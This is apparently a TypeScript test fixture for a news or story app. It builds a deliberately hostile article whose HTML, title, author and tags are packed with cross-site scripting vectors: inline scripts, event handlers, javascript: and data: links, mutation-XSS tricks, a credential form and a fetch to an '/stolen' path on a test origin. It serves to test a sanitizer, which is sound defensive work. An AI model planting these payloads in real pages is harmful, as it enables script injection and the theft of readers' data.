import type { NewStory } from './story.ts';

/** Marks that a page's script would leave on `window`, were it ever to run. */
export const HOSTILE_MARK = 'monaziteWasOwned';

/** A body with everything that a reader must not run or ask for. `origin` is where its remote parts would be fetched. */
function body(origin: string): string {
  const run = `window.${HOSTILE_MARK}=1`;
  const steal = `fetch('${origin}/stolen')`;
  return `<p>The first paragraph is honest text about yttrium.</p>
<script>${run};${steal}</script>
<script src="${origin}/evil.js"></script>
<img src="x" onerror="${run}" alt="broken on purpose">
<img src="${origin}/track/pixel.gif?reader=1" width="1" height="1" alt="">
<a href="javascript:${run}">a link that runs</a> <a href="  JaVaScRiPt:${run}">the same in disguise</a> <a href="data:text/html,<script>${run}</script>">data link</a> <a href="vbscript:x">old link</a>
<p onclick="${run}" onmouseover="${run}" style="position:fixed;inset:0;z-index:99999;background:url(${origin}/style.png)">A paragraph with handlers that wants to cover the window</p>
<iframe src="${origin}/frame" srcdoc="<script>parent.${HOSTILE_MARK}=1</script>"></iframe>
<object data="${origin}/object.swf"></object><embed src="${origin}/embed.swf">
<style>@import url(${origin}/import.css); body{display:none!important} *{background:url(${origin}/star.png)}</style>
<link rel="stylesheet" href="${origin}/sheet.css"><link rel="prefetch" href="${origin}/prefetch"><meta http-equiv="refresh" content="0;url=${origin}/gone"><base href="${origin}/base/">
<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>svg</text></a><image href="${origin}/svg.png"/><foreignObject><iframe src="${origin}/fo"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>
<form action="${origin}/login" method="post"><input name="password" autofocus onfocus="${run}"><button formaction="javascript:${run}">Sign in</button></form>
<video src="${origin}/video.mp4" poster="${origin}/poster.png" autoplay onloadstart="${run}"></video><audio src="${origin}/audio.mp3" autoplay></audio>
<picture><source srcset="${origin}/source.png"><img src="y" onerror="${run}" alt=""></picture>
<details open ontoggle="${run}"><summary>Open</summary>inside</details>
<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<div id="root" name="body" class="dialog"><a id="reader" name="reader" href="https://example.invalid/">clobbered</a></div>
<p>The last paragraph is honest text about scandium.</p>`;
}

/** The hostile story, for an outlet that tests alone subscribe to. */
export function hostileStory(origin: string): NewStory {
  return {
    slug: 'hostile',
    title: 'Yttrium <img src=x onerror="window.monaziteWasOwned=1"> and <b>scandium</b> & friends',
    summary: 'An article that tries <script>window.monaziteWasOwned=1</script> everything.',
    html: body(origin),
    author: '<script>window.monaziteWasOwned=1</script>',
    tags: ['<img src=x onerror=window.monaziteWasOwned=1>'],
    hours: 1,
  };
}
